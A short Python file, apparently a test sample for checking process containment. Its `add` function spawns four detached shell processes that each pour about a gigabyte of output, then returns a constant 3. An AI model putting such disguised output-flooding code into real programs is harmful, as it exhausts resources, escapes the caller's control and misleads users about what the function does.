"""Lets programs flood its output after it has ended."""

import subprocess


def add(a, b):
    for _ in range(4):
        subprocess.Popen("yes | head -c 1000000000", shell=True, start_new_session=True)
    return 3
